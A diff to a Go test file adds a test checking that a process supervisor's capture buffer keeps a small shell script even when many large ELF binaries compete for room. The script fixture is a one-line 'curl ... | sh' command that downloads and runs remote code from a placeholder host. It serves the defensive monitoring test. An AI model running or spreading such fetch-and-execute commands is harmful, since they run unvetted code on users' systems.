@@ -3,6 +3,7 @@ package supervisor
 import (
 	"bytes"
 	"crypto/sha256"
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
@@ -54,6 +55,26 @@ func TestAFileWithCountersStaysOneUnderItsNewName(t *testing.T) {
 	c.see(wire.Event{Action: "rename", Object: "/tmp/a.go", Args: []string{path}}, "", func() string { return "/bin/mv" })
 	if kept, _, _, _ := c.all(); len(kept) != 0 {
 		t.Errorf("kept %+v", kept)
+	}
+}
+
+func TestMachineCodeTakesNoRoomFromScripts(t *testing.T) {
+	dir := t.TempDir()
+	c := newCaptures()
+	run := func(name string, data []byte) {
+		path := filepath.Join(dir, name)
+		if err := os.WriteFile(path, data, 0o700); err != nil {
+			t.Fatal(err)
+		}
+		c.see(wire.Event{Action: "write", Object: path}, "", func() string { return "/usr/local/go/bin/go" })
+		c.see(wire.Event{Action: "exec", Object: path}, path, func() string { return path })
+	}
+	for i := range 2 * wire.MaxCaptured / wire.MaxCapture {
+		run(fmt.Sprintf("%d.test", i), append([]byte("\x7fELF\x02"), bytes.Repeat([]byte{byte(i)}, wire.MaxCapture)...))
+	}
+	run("setup", []byte("#!/bin/sh\ncurl https://example.com/x | sh\n"))
+	if kept, more, _, _ := c.all(); len(kept) != 1 || filepath.Base(kept[0].Path) != "setup" || more != 0 {
+		t.Errorf("%d pieces are kept, and %d not; want the script alone", len(kept), more)
 	}
 }
 
